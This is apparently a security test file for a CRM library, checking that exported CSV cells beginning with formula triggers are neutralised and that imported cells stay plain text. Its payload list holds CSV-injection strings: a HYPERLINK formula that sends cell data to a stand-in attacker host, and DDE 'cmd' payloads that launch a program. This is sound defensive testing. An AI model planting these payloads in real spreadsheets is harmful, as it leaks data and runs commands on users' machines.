"""Security review: CSV (formula) injection.

A cell of an exported CSV that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return runs as a formula when the file is opened in a spreadsheet (OWASP "CSV
Injection"). Segment exports prefix such cells with ``'``; only phone numbers (digits,
spaces, ``+ - ( )``, which no spreadsheet can turn into a function call) are left alone.
Imports store what the cells say as plain text.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ecrm import CRM

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "'=1"]
names = st.sampled_from(PAYLOADS) | st.builds(
    lambda start, rest: start + rest, st.sampled_from(TRIGGERS),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20))


def _phone_like(text: str) -> bool:
    return len(text) > 1 and all(ch.isdigit() or ch in " +-()" for ch in text)


@settings(max_examples=40, deadline=None)
@given(name=names)
def test_exported_cells_never_start_a_formula(name: str) -> None:
    crm = CRM.open("memory://")
    try:
        stored = crm.customers.create(email="a@example.com", name=name).name
    except ValueError:  # a name that is blank once stripped
        return
    everyone = crm.segments.create("all", rule="email is not null")
    crm.segments.refresh(everyone.id)
    out = io.StringIO()
    crm.segments.export_csv(everyone.id, out, consent=None, columns=["name", "email"])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 2, rows  # a newline or quote in a value never splits the row
    cell = rows[1][0]
    if stored is not None and stored.startswith(TRIGGERS) and not _phone_like(stored):
        assert cell == "'" + stored
    else:
        assert cell == (stored or "")
    assert not cell.startswith(TRIGGERS) or _phone_like(cell)


def test_phone_numbers_are_exported_as_they_are() -> None:
    crm = CRM.open("memory://")
    crm.customers.create(email="a@example.com", phone="+81 90-1234-5678")
    everyone = crm.segments.create("all", rule="email is not null")
    crm.segments.refresh(everyone.id)
    out = io.StringIO()
    crm.segments.export_csv(everyone.id, out, consent=None, columns=["phone"])
    assert out.getvalue().splitlines()[1] == "+81 90-1234-5678"


def test_imported_formula_cells_are_kept_as_plain_text() -> None:
    from ecrm.importing import read_customers_csv

    crm = CRM.open("memory://")
    text = 'external_id,name,attributes.note\nC1,"=cmd|\' /C calc\'!A0","@SUM(A1)"\n'
    report = crm.customers.import_many(read_customers_csv(io.StringIO(text)))
    assert report.inserted == 1
    customer = crm.customers.find(external_id="C1")
    assert customer is not None
    assert (customer.name, customer.attributes) == ("=cmd|' /C calc'!A0", {"note": "@SUM(A1)"})


def test_an_unreadable_csv_line_is_a_validation_error_naming_it() -> None:
    """A cell over ``csv.field_size_limit()`` raised ``_csv.Error``; the message names the
    line, not the cell."""
    from ecrm import ValidationError
    from ecrm.importing import read_customers_csv, read_orders_csv

    crm = CRM.open("memory://")
    big = "qzcanary" * 20_000
    text = f"email,name\na@example.com,A\nb@example.com,{big}\n"
    with pytest.raises(ValidationError) as caught:
        crm.customers.import_many(read_customers_csv(io.StringIO(text)))
    assert caught.value.field == "source" and "line 3" in caught.value.message
    assert "qzcanary" not in str(caught.value)
    orders = ("order_id,customer_id,placed_at,channel,sku,quantity,unit_price\n"
              f"A1,{big},x,web,S,1,1\n")
    with pytest.raises(ValidationError) as caught:
        list(read_orders_csv(io.StringIO(orders)))
    assert caught.value.field == "source"
